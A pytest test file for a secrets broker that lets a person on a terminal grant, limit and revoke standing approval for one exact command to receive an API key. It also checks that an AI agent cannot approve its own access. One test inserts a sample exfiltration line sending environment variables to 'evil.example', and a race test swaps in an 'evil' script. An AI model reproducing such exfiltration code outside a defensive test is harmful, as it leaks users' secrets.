"""A standing yes on real parts: given by a person on a terminal, good for exactly one content, and taken back."""

from __future__ import annotations

import contextlib
import json
import os
import signal
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from locum.broker.start import start_with_control
from locum.errors import Unavailable
from locum.paths import user_paths
from support.home import Home, canary

SHOW = 'import os; print("value:", len(os.environ["API_KEY"]))'


class Ready(Home):
    """A home whose vault holds API_KEY; its value is in `value`."""

    value = ""

    def run_task(self, *command: str, check: int = 0, cwd: Path | None = None, **env: str) -> str:
        done = self.run("run", "--secret", "API_KEY", "--", *command, check=check, cwd=cwd, **env)
        return done.stdout + done.stderr

    def allow(self, *arguments: str, code: int = 0, say: str = "y\n") -> str:
        terminal = self.terminal("policy", "allow", "--secret", "API_KEY", *arguments)
        terminal.answer(say)
        assert terminal.wait() == code, terminal.text
        return terminal.text


@pytest.fixture
def ready(tmp_path: Path) -> Iterator[Ready]:
    home = Ready(tmp_path)
    home.init()
    home.value = canary()
    home.store("API_KEY", home.value)
    (home.project / "show.py").write_text(SHOW)
    yield home
    home.close()


def test_exactly_this_runs_without_a_question_and_nothing_else(ready: Ready) -> None:
    said = ready.allow("--", "python3", "show.py")
    assert "Let exactly this run without a question until" in said
    assert "show.py" in said
    assert "value: 32" in ready.run_task("python3", "show.py")
    (record,) = [r for r in ready.json("audit", "show")["records"] if r["api"]["operation"] == "lease.grant"]
    assert record["unmapped"]["approved_by"].startswith("policy:pol_")

    ready.run_task("python3", "show.py", "more", check=3)  # another command line
    (ready.project / "below").mkdir()
    ready.run_task("python3", "../show.py", check=3, cwd=ready.project / "below")  # another folder
    ready.run("run", "--secret", "KEY2=locum://API_KEY", "--", "python3", "show.py", check=3)  # another variable
    ready.run("run", "--secret", "API_KEY", "--ttl", "16m", "--", "python3", "show.py", check=3)
    ready.run("run", "--secret", "API_KEY", "--channel", "file", "--", "python3", "show.py", check=3)
    ready.run("run", "--secret", "API_KEY", "--pass", "NODE_*", "--", "python3", "show.py", check=3)
    (ready.project / "show.py").write_text(SHOW + "\nprint('more')\n")
    assert "nobody can be asked" in ready.run_task("python3", "show.py", check=3)  # another script
    (ready.project / "show.py").write_text(SHOW)
    assert "value: 32" in ready.run_task("python3", "show.py")


def test_a_copy_of_the_workspace_is_another_one(ready: Ready, tmp_path: Path) -> None:
    ready.allow("--", "python3", "show.py")
    away = tmp_path / "away"
    ready.project.rename(away)
    ready.project.mkdir()
    (ready.project / "show.py").write_text(SHOW)  # the same path, another folder
    ready.run_task("python3", "show.py", check=3)


def test_a_package_script_is_what_is_allowed(ready: Ready) -> None:
    package = ready.project / "package.json"
    package.write_text('{"scripts": {"test": "node -e \\"console.log(process.env.API_KEY.length)\\""}}')
    ready.allow("--", "npm", "test", "--silent")
    assert "32" in ready.run_task("npm", "test", "--silent")
    package.write_text('{"scripts": {"test": "node -e \\"console.log(process.env.API_KEY)\\""}}')
    ready.run_task("npm", "test", "--silent", check=3)


def test_the_next_question_says_what_changed(ready: Ready) -> None:
    ready.allow("--", "python3", "show.py")
    token = canary(40)
    (ready.project / "show.py").write_text(SHOW + f"\nsend(os.environ, 'https://evil.example', '{token}')\n")
    terminal = ready.terminal("run", "--secret", "API_KEY", "--", "python3", "show.py")
    terminal.wait_for("Allow")
    said = " ".join(terminal.text.replace("│", " ").split())
    assert "your last yes, just now" in said
    assert "show.py: 1 new, 0 gone" in said
    assert "+ send(os.environ, 'https://evil.example', '…')" in said
    assert token not in terminal.text  # what looks like a value is not shown
    terminal.answer("n\n")
    assert terminal.wait() == 3


def test_taking_it_back_ends_what_runs_by_it(ready: Ready) -> None:
    (ready.project / "show.py").write_text("import time; print('up', flush=True); time.sleep(60)")
    ready.allow("--", "python3", "show.py")
    task = subprocess.Popen(
        ready.command("run", "--secret", "API_KEY", "--", "python3", "show.py"), stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT, env=ready.env, cwd=ready.project, text=True,
    )  # fmt: skip
    assert task.stdout is not None
    assert task.stdout.readline() == "up\n"
    ready.run("policy", "revoke", "--all")
    assert task.wait(20) == 143
    assert "revoked" in task.stdout.read()
    ready.run_task("python3", "show.py", check=3)
    assert ready.json("policy", "list")["standing"] == []


def test_a_no_changes_nothing_and_an_agent_cannot_say_yes(ready: Ready) -> None:
    assert "you said no" in ready.allow("--", "python3", "show.py", code=3, say="n\n")
    asked = ready.command("policy", "allow", "--secret", "API_KEY", "--", "python3", "show.py")
    terminal = ready.terminal(command=["env", "CLAUDECODE=1", *asked])
    assert terminal.wait() == 3
    assert "CLAUDECODE" in terminal.text
    assert ready.json("policy", "list")["standing"] == []


def test_a_yes_at_the_question_can_stand(ready: Ready) -> None:
    terminal = ready.terminal("run", "--secret", "API_KEY", "--", "python3", "show.py")
    terminal.wait_for("Allow? [y/N]  (a: exactly this for 12 h)")
    terminal.answer("a\n")
    assert terminal.wait() == 0
    assert "value: 32" in ready.run_task("python3", "show.py")
    (item,) = ready.json("policy", "list")["standing"]
    assert item["expires"] - item["made"] == 12 * 3600


def test_production_is_asked_about_each_time(ready: Ready) -> None:
    ready.store("PROD_KEY", canary())
    terminal = ready.terminal("policy", "allow", "--secret", "PROD_KEY", "--", "python3", "show.py")
    assert terminal.wait() == 2
    assert "production secrets are asked for each time" in terminal.text
    terminal = ready.terminal("run", "--secret", "PROD_KEY", "--", "true")
    terminal.wait_for("Allow? [y/N]")
    assert "PRODUCTION" in terminal.text
    assert "(a:" not in terminal.text
    terminal.answer("a\n")
    assert terminal.wait() == 3


def test_an_edit_by_hand_is_not_in_force(ready: Ready) -> None:
    ready.allow("--for", "1h", "--", "python3", "show.py")
    path = ready.path / "config" / "policy.toml"
    text = path.read_text()
    path.write_text(text.replace("python3 show.py", "python3 evil.py") + '\n[[deny]]\nreference = "*"\n')
    found = ready.json("policy", "list")
    assert found["edited"]
    assert "+[[deny]]" in found["difference"]
    assert "value: 32" in ready.run_task("python3", "show.py")  # what was signed holds
    ready.run("policy", "restore")
    assert path.read_text() == text
    assert not ready.json("policy", "list")["edited"]


def test_an_edit_that_a_person_adopts_is(ready: Ready) -> None:
    ready.allow("--", "python3", "show.py")
    path = ready.path / "config" / "policy.toml"
    rule = '[[deny]]\ncommand = "python3 *"\nreason = "not here"\n'
    path.write_text(path.read_text() + "\n" + rule)
    terminal = ready.terminal("policy", "adopt")
    terminal.wait_for("Allow")
    assert 'command = "python3 *"' in terminal.text
    terminal.answer()
    assert terminal.wait() == 0
    assert "your policy forbids it: not here" in ready.run_task("python3", "show.py", check=3)


@pytest.mark.parametrize("fault", ["open", "link", "rolled back"])
def test_a_policy_file_of_another_hand_is_not_read(ready: Ready, fault: str, tmp_path: Path) -> None:
    path = ready.path / "config" / "policy.toml"
    ready.allow("--", "python3", "show.py")
    if fault == "open":
        path.chmod(0o666)
        assert any("written by others" in remark for remark in ready.json("policy", "list")["remarks"])
    elif fault == "link":
        other = tmp_path / "other.toml"
        other.write_text(path.read_text())
        path.unlink()
        path.symlink_to(other)
        assert any("ignored" in remark for remark in ready.json("policy", "list")["remarks"])
    else:
        old = path.read_text()
        ready.run("policy", "revoke", "--all")
        path.write_text(old)
        ready.run_task("python3", "show.py", check=3)


def test_it_explains(ready: Ready) -> None:
    command = ("policy", "explain", "--secret", "API_KEY", "--format", "json", "--", "python3", "show.py")
    assert json.loads(ready.run(*command).stdout)["decision"] == "ask"
    ready.allow("--", "python3", "show.py")
    told = json.loads(ready.run(*command).stdout)
    assert told["decision"] == "allow"
    assert str(ready.project / "show.py") in [item["path"] for item in told["covers"]]


RACER = """
import os, sys, time
good, evil = open(sys.argv[1]).read(), open(sys.argv[2]).read()
path, other = sys.argv[3], sys.argv[3] + ".new"
turn = 0
while True:
    turn += 1
    with open(other, "w") as file:
        file.write(evil if turn % 2 else good)
    os.replace(other, path)
    if turn % 3 == 0:
        with open(path, "w") as file:
            file.write(good if turn % 2 else evil)
"""


def test_a_race_never_runs_what_was_not_allowed(ready: Ready, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The script is swapped all the time, by renames and in place; it runs as it was allowed, or not at all.

    A swap that is noticed takes the yes away, so a person gives it anew for the next try.
    """
    monkeypatch.setenv("LOCUM_HOME", str(ready.path))
    ready.run("broker", "stop")
    channel = start_with_control(user_paths())
    assert channel is not None
    good, evil, marks = tmp_path / "good", tmp_path / "evil", tmp_path / "marks"
    marks.mkdir()
    good.write_text(f'#!/bin/sh\n: > "{marks}/good.$$"\n')
    evil.write_text(f'#!/bin/sh\n: > "{marks}/evil.$$"\n')
    script = ready.project / "task.sh"
    task = ("--secret", "API_KEY", "--", "sh", "task.sh")
    racer = subprocess.Popen([sys.executable, "-c", RACER, str(good), str(evil), str(script)])
    tries = int(os.environ.get("LOCUM_RACES", "12"))
    codes: list[int] = []

    def answer() -> None:
        with contextlib.suppress(Unavailable, OSError, ValueError):
            while True:
                question = channel.next_question(None)
                assert question is not None
                channel.answer(question["id"], allow="without a question" in question["title"])

    def allow() -> None:
        racer.send_signal(signal.SIGSTOP)
        script.write_text(good.read_text())
        ready.run("policy", "allow", *task)
        racer.send_signal(signal.SIGCONT)

    threading.Thread(target=answer, daemon=True).start()
    try:
        stands = False
        while len(codes) < tries:
            if not stands:
                allow()
            done = subprocess.run(
                ready.command("run", *task), env=ready.env, cwd=ready.project, capture_output=True, timeout=60,
                start_new_session=True, text=True,
            )  # fmt: skip
            codes.append(done.returncode)
            stands = "does not stand any more" not in done.stderr
    finally:
        racer.send_signal(signal.SIGKILL)
        racer.wait()
        channel.close()
    ran = sorted(path.name.partition(".")[0] for path in marks.iterdir())
    assert "evil" not in ran
    assert set(codes) <= {0, 2, 3}
    assert codes.count(0) == len(ran)
